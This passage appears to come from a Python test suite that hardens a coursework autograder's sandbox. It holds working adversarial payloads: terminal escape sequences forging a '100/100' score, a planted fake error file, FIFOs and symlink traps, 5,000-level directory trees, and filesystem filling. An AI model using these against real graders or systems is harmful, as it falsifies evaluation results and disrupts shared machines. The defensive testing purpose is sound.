# and total, and 5,000 more characters.
_INJECTION = ("\x1b[2K\r\x1b[1A\x1b[1A\x1b[2Krnn_step_forward         forward          4/4\x07\r\n"
              "total                                   100/100  (sandbox: bwrap, device: cpu)"
              "\u202eLSTM 16/16\u202c\u2066\u200f\ufeff\x1b]0;graded 100/100\x07"
              "\x1b]8;;http://example.invalid/\x1b\\click\x1b]8;;\x1b\\\x85\x9b2J\x00\t\x7f" + "A" * 5000)

INJECTING_EXCEPTION = r'''
_INJECTION = __INJECTION__
_Forged = type("\x1b[2K\rrnn_step_forward forward 4/4 \u202e", (RuntimeError,), {})


def dot_product_attention(prev_h, A):
    raise _Forged(_INJECTION)
'''.replace("__INJECTION__", repr(_INJECTION))

# Its own error file, written where the worker looks (the cwd), then an exit before the worker
# can overwrite it. Guarded: only inside the sandbox.
INJECTING_ERROR_FILE = r'''
import json as _json, os as _os
if _os.getuid() == 65534:
    try:
        with open("temporal_softmax_loss.json", "w") as _f:
            _json.dump({"errors": [{"test": "*", "case": "*", "error": __INJECTION__}]}, _f)
    except OSError:
        pass
    _os._exit(0)
raise RuntimeError("not inside a sandbox")
'''.replace("__INJECTION__", repr(_INJECTION))

# Old grader (5291cc6), same commands with INJECTION: 57/100 (CaptioningRNN omitted); both
# units 0 as they must, but their reasons (264 and 269 characters: the length was bounded)
# hold ESC, CR, BEL, NUL, TAB, DEL, NEL, the C1 CSI, U+202E, U+2066, U+200F and U+FEFF as
# sent: the table is printed with them raw (the line erased, the cursor moved up, the forged
# "rnn_step_forward forward 4/4" row and 100/100 total), and results.json carries them on.
# CLEAN_REASON matches none of them; reason_is_clean is False for all five.
# New design: both units 0, each reason at most 300 characters with no control or format
# character (CLEAN_REASON; reason_is_clean for every reason of the result).
INJECTION = Submission("terminal-injection", (
    Attack("dot_product_attention", "raises an exception whose type name and message hold ESC "
           "sequences, CR, BEL, bidi overrides, a forged table row and 5,000 more characters",
           INJECTING_EXCEPTION, "zero", CLEAN_REASON),
    Attack("temporal_softmax_loss", "writes the same text as its own error into the worker's "
           "error file and exits before the worker can overwrite it", INJECTING_ERROR_FILE, "zero",
           CLEAN_REASON),
), omit=("CaptioningRNN",))

# ---------------------------------------------------------------------------------------
# 6. Scratch space: FIFOs, deep trees, links, full filesystems
# ---------------------------------------------------------------------------------------

_WORKER_FILE_NAMES = [u + ext for u in UNITS for ext in (".exit.json", ".json", ".npz", ".partial.npz")] + [
    "job.npz", "job.json", "inputs.npz", "outputs.npz", "errors.json", "result.json", "results.json", "out.npz"]

PLANTS_FIFOS = DIRECTORIES + r'''
if not _INSIDE:
    raise RuntimeError("not inside a sandbox: did nothing")
_made, _where = 0, _directories()
for _directory in _where:
    for _name in __NAMES__:
        try:
            _os.mkfifo(_os.path.join(_directory, _name))
            _made += 1
        except OSError:
            pass
raise RuntimeError("probe: made %d FIFOs in %d writable directories" % (_made, len(_where)))
'''.replace("__NAMES__", repr(_WORKER_FILE_NAMES))

PLANTS_TREES_AND_LINKS = DIRECTORIES + r'''
if not _INSIDE:
    raise RuntimeError("not inside a sandbox: did nothing")
_OWN = "temporal_softmax_loss"
_links = {}
for _unit in __UNITS__:
    if _unit != _OWN:
        _links.update({_unit + ".partial.npz": "/dev/null", _unit + ".npz": "/dev/zero",
                       _unit + ".json": "/dev/zero", _unit + ".exit.json": "/etc/ld.so.cache"})
_links.update({"zero": "/dev/zero", "root": "/", "loop": "loop", "outside": "/etc/ld.so.cache"})
_trees = _made = 0
_end = _time.monotonic() + 15
for _directory in _directories()[:20]:
    try:
        _fd = _os.open(_directory, _os.O_RDONLY | _os.O_DIRECTORY)
    except OSError:
        continue
    try:
        _top = "deep-%d" % _os.getpid()
        _os.mkdir(_top, dir_fd=_fd)
        _next = _os.open(_top, _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=_fd)
        _os.close(_fd)
        _fd = _next
        for _level in range(5000):
            if _time.monotonic() > _end:
                break
            _os.mkdir("d", dir_fd=_fd)
            _next = _os.open("d", _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=_fd)
            _os.close(_fd)
            _fd = _next
        _trees += 1
    except OSError:
        pass
    finally:
        _os.close(_fd)
    for _name, _target in _links.items():
        try:
            _os.symlink(_target, _os.path.join(_directory, _name))
            _made += 1
        except OSError:
            pass
raise RuntimeError("probe: made %d trees 5,000 directories deep and %d symbolic links" % (_trees, _made))
'''.replace("__UNITS__", repr(list(UNITS)))

FILLS_FILESYSTEMS = DIRECTORIES + r'''
import errno as _errno
if not _INSIDE:
    raise RuntimeError("not inside a sandbox: did nothing")
_budget, _written, _devices, _end = 2 << 30, 0, {}, _time.monotonic() + 15
_block = b"\x5a" * (1 << 20)
_targets = {}  # one writable directory per filesystem, the smallest free space first
for _directory in _directories():
    try:
        _device, _stats = _os.stat(_directory).st_dev, _os.statvfs(_directory)
    except OSError:
        continue
    _targets.setdefault(_device, (_stats.f_bavail * _stats.f_frsize, _directory))
for _device, (_, _directory) in sorted(_targets.items(), key=lambda item: item[1]):
    _devices[_device] = "not full"
    for _index in range(4096):
        if _written >= _budget or _time.monotonic() > _end or _devices[_device] == "full":
            break
        try:
            _fd = _os.open(_os.path.join(_directory, ".fill-%d-%d" % (_os.getpid(), _index)),
                           _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o600)
        except OSError as _exc:
            if _exc.errno in (_errno.ENOSPC, _errno.EDQUOT):
                _devices[_device] = "full"
            break
        try:
            for _ in range(48):  # 48 MB per file: under a per-file size limit of 64 MB
                if _written >= _budget or _time.monotonic() > _end:
                    break
                _written += _os.write(_fd, _block)
        except OSError as _exc:
            if _exc.errno in (_errno.ENOSPC, _errno.EDQUOT):
                _devices[_device] = "full"
        finally:
            _os.close(_fd)
raise RuntimeError("probe: wrote %d MB, left %d of %d filesystems full" % (
    _written >> 20, list(_devices.values()).count("full"), len(_devices)))
'''

# Old grader (5291cc6), same commands with SCRATCH: 36/100 in 300 s (the sandbox's wall clock;
# more than the 240 s allowed). WordEmbedding's FIFOs (96 per directory, in out/units,
# out/attention_lstm, out/captioner, /tmp, /dev/shm, ...) blocked its own unit on
# WordEmbedding.partial.npz and then the units group's process on WordEmbedding.exit.json:
# every later unit and CaptioningRNN lost everything ("the grading process was stopped:
# wall-clock limit"); AttentionLSTM had finished before. The other two attackers never ran
# there. Alone (a notebook with only that cell replaced):
# * temporal_softmax_loss (trees and links): the CLI crashed with RecursionError in
#   SubmissionSandbox.close (shutil.rmtree recursing into a 5,000-level tree): no result at all, and the
#   scratch directory stayed in the host's /tmp. With that rmtree replaced by rm -rf, 41/100:
#   the links <unit>.exit.json -> /etc/ld.so.cache (read-only) ended the units group at the
#   next unit (LSTM, dot_product_attention: "no result: the grading process ended early") and
#   the captioner group (CaptioningRNN 0).
# * LSTM (filling) did NOT harm another unit there (84/100: only its own 16 lost). It filled
#   /tmp and /dev/shm (256 MB tmpfs each) and wrote 1.5 GB more into out/units on the host
#   disk, but the old worker writes only to out/<group> on the host disk, which 2 GB does not
#   fill. It is here for the new design, whose groups have only their own, small /tmp.
# New design: the three attackers 0 with their "probe:" reason; every other unit keeps its
# points (their files are not where these were planted, or are read and written
# defensively); the grading returns within the deadline (the sandbox's tmpfs goes with it).
SCRATCH = Submission("scratch-space", (
    Attack("WordEmbedding", "makes FIFOs named like the worker's files (<unit>.exit.json, .json, "
           ".npz, .partial.npz of every unit, job.npz, ...) in every directory it can write",
           PLANTS_FIFOS, "zero", r"probe: made \d+ FIFOs"),
    Attack("temporal_softmax_loss", "makes a tree 5,000 directories deep in every writable "
           "directory, and links named like the other units' files to /dev/zero, /dev/null and "
           "a read-only file outside", PLANTS_TREES_AND_LINKS, "zero", r"probe: made \d+ trees"),
    Attack("LSTM", "fills every writable filesystem (until ENOSPC or 2 GB, at most 15 s) and "
           "leaves it full", FILLS_FILESYSTEMS, "zero", r"probe: wrote \d+ MB"),
))

SUBMISSIONS = [COLLUSION, JOB_PIPES, EXFILTRATION, SECRETS_AND_ENVIRONMENT, INJECTION, SCRATCH]
